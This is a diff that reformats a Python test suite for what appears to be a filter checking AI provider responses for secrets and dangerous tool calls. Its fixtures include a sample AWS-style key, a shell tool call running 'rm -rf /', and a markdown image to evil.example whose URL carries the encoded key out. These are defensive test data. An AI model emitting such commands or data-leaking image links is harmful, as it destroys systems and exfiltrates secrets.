@@ -16,11 +16,18 @@ from tests.support.streams import SHAPES, TEXTS, Shape
 KEY = "AKIAQYLPMN5HHHFPZAM2"
 CASES = {
     "allow": (["Hello", " there", ", all is", " well. "], ['{"path": "/tmp', '/x"}']),
-    "redact": (["The key is AKI", "AQYLPMN5", "HHHFPZAM2", ", keep it."], ['{"command": "echo AKIAQY', 'LPMN5HHHFPZAM2"}']),
+    "redact": (
+        ["The key is AKI", "AQYLPMN5", "HHHFPZAM2", ", keep it."],
+        ['{"command": "echo AKIAQY', 'LPMN5HHHFPZAM2"}'],
+    ),
     "block": (["I will", " clean up. "], ['{"command": "rm -', "rf /", '"}']),
 }
 # Where no tool is called, an image whose address carries data away is what a strict house blocks.
-IMAGE = ["See ![logo](https://evil.exa", "mple/p.png?d=QUtJQVFZTFBNTjVISEhGUFpBTTIgaXMgdGhl", "IGtleSB5b3UgYXNrZWQgZm9y) there."]
+IMAGE = [
+    "See ![logo](https://evil.exa",
+    "mple/p.png?d=QUtJQVFZTFBNTjVISEhGUFpBTTIgaXMgdGhl",
+    "IGtleSB5b3UgYXNrZWQgZm9y) there.",
+]
 ENCODINGS: dict[str, Callable[[bytes], bytes]] = {
     "identity": lambda data: data,
     "gzip": gzip.compress,
@@ -48,7 +55,11 @@ CALLS: dict[str, dict[str, Any]] = {
     "images": {"model": "m", "prompt": "TEXT"},
     "speech": {"model": "m", "input": "TEXT", "voice": "a"},
     "files": {"purpose": "batch", "input": "TEXT"},
-    "anthropic-batches": {"requests": [{"custom_id": "a", "params": {"model": "m", "messages": [{"role": "user", "content": "TEXT"}]}}]},
+    "anthropic-batches": {
+        "requests": [
+            {"custom_id": "a", "params": {"model": "m", "messages": [{"role": "user", "content": "TEXT"}]}}
+        ]
+    },
 }
 SAID = {
     "allow": "hello there",
@@ -64,7 +75,11 @@ ENDINGS = {
 }
 VERTEX = (":rawpredict", ":streamrawpredict")
 SHAPES_OF = {"gemini": ("gemini-sse", "gemini-array")}
-CONCRETE = {"*-aiplatform": "europe-west1-aiplatform", "bedrock-runtime.*": "bedrock-runtime.eu-west-3", "*": "acme"}
+CONCRETE = {
+    "*-aiplatform": "europe-west1-aiplatform",
+    "bedrock-runtime.*": "bedrock-runtime.eu-west-3",
+    "*": "acme",
+}
 
 
 class Row(NamedTuple):
@@ -98,7 +113,11 @@ def rows() -> Iterator[Row]:
             else:
                 shapes = SHAPES_OF.get(format, (format,))
                 yield from (
-                    Row(entry.name, format, "mistral-chat" if (entry.name, shape) == ("mistral", "openai-chat") else shape)
+                    Row(
+                        entry.name,
+                        format,
+                        "mistral-chat" if (entry.name, shape) == ("mistral", "openai-chat") else shape,
+                    )
                     for shape in shapes
                 )
     yield Row("openai", "mcp", "mcp")  # under any path of any host
@@ -143,7 +162,10 @@ def given(cell: Cell) -> Given:
     shape = shape_of(cell.shape)
     if cell.how == "whole":
         arguments = json.loads("".join(call)) if call else {}
-        body, content_type = json.dumps(whole(cell.shape, "".join(text), arguments)).encode(), "application/json"
+        body, content_type = (
+            json.dumps(whole(cell.shape, "".join(text), arguments)).encode(),
+            "application/json",
+        )
     else:
         body, content_type = b"".join(shape.made(text, call)), shape.content_type
     sent = ENCODINGS[cell.encoding](body)
@@ -158,12 +180,32 @@ def whole(shape: str, text: str, call: dict[str, Any]) -> Any:
     function = {"id": "c1", "type": "function", "function": {"name": "shell", "arguments": written}}
     match shape:
         case "openai-chat" | "mistral-chat":
-            return {"id": "x", "choices": [{"index": 0, "message": {"role": "assistant", "content": text, "tool_calls": [function]}}]}
+            return {
+                "id": "x",
+                "choices": [
+                    {"index": 0, "message": {"role": "assistant", "content": text, "tool_calls": [function]}}
+                ],
+            }
         case "openai-responses":
-            said = {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": text}]}
-            return {"id": "x", "output": [said, {"type": "function_call", "name": "shell", "call_id": "c1", "arguments": written}]}
+            said = {
+                "type": "message",
+                "role": "assistant",
+                "content": [{"type": "output_text", "text": text}],
+            }
+            return {
+                "id": "x",
+                "output": [
+                    said,
+                    {"type": "function_call", "name": "shell", "call_id": "c1", "arguments": written},
+                ],
+            }
         case "anthropic-messages" | "bedrock-invoke":
-            return {"content": [{"type": "text", "text": text}, {"type": "tool_use", "id": "t", "name": "shell", "input": call}]}
+            return {
+                "content": [
+                    {"type": "text", "text": text},
+                    {"type": "tool_use", "id": "t", "name": "shell", "input": call},
+                ]
+            }
         case "gemini-sse" | "gemini-array":
             parts = [{"text": text}, {"functionCall": {"name": "shell", "args": call}}]
             return {"candidates": [{"content": {"parts": parts, "role": "model"}}]}
@@ -171,7 +213,14 @@ def whole(shape: str, text: str, call: dict[str, Any]) -> Any:
             blocks = [{"text": text}, {"toolUse": {"toolUseId": "t", "name": "shell", "input": call}}]
             return {"output": {"message": {"role": "assistant", "content": blocks}}}
         case "cohere-chat":
-            return {"id": "x", "message": {"role": "assistant", "content": [{"type": "text", "text": text}], "tool_calls": [function]}}
+            return {
+                "id": "x",
+                "message": {
+                    "role": "assistant",
+                    "content": [{"type": "text", "text": text}],
+                    "tool_calls": [function],
+                },
+            }
         case "completions":
             return {"id": "x", "choices": [{"index": 0, "text": text, "finish_reason": "stop"}]}
         case "cohere-v1-chat":
@@ -181,7 +230,13 @@ def whole(shape: str, text: str, call: dict[str, Any]) -> Any:
         case "mcp":
             return {"jsonrpc": "2.0", "id": 7, "result": {"content": [{"type": "text", "text": text}]}}
         case _:
-            return {"message": {"role": "assistant", "content": text, "tool_calls": [{"function": {"name": "shell", "arguments": call}}]}}
+            return {
+                "message": {
+                    "role": "assistant",
+                    "content": text,
+                    "tool_calls": [{"function": {"name": "shell", "arguments": call}}],
+                }
+            }
 
 
 def call_of(row: Row, how: str, case: str) -> bytes:
@@ -191,13 +246,18 @@ def call_of(row: Row, how: str, case: str) -> bytes:
     call = shape_of(row.shape).call
     if row.format == "mcp" and case == "block":  # what an agent asks of a tool
         call = {**call, "params": {"name": "shell", "arguments": {"command": "rm -rf /"}}}
-    return json.dumps({**call, "stream": how == "streamed"} if "stream" in call or row.format == "ollama" else call).encode()
+    return json.dumps(
+        {**call, "stream": how == "streamed"} if "stream" in call or row.format == "ollama" else call
+    ).encode()
 
 
 def table(seen: dict[tuple[Row, str], int]) -> str:
     """The table in docs/providers.md, of how many cells held."""
     lines = ["| provider | format | whole | streamed |", "|---|---|---|---|"]
     for row in rows():
-        told = [f"{seen[row, how]} of {EVERY}" if (row, how) in seen else f"n/a: {NO_TEXT[row.format]}" for how in HOW]
+        told = [
+            f"{seen[row, how]} of {EVERY}" if (row, how) in seen else f"n/a: {NO_TEXT[row.format]}"
+            for how in HOW
+        ]
         lines.append(f"| {row.provider} | {row.label} | {' | '.join(told)} |")
     return "\n".join(lines)
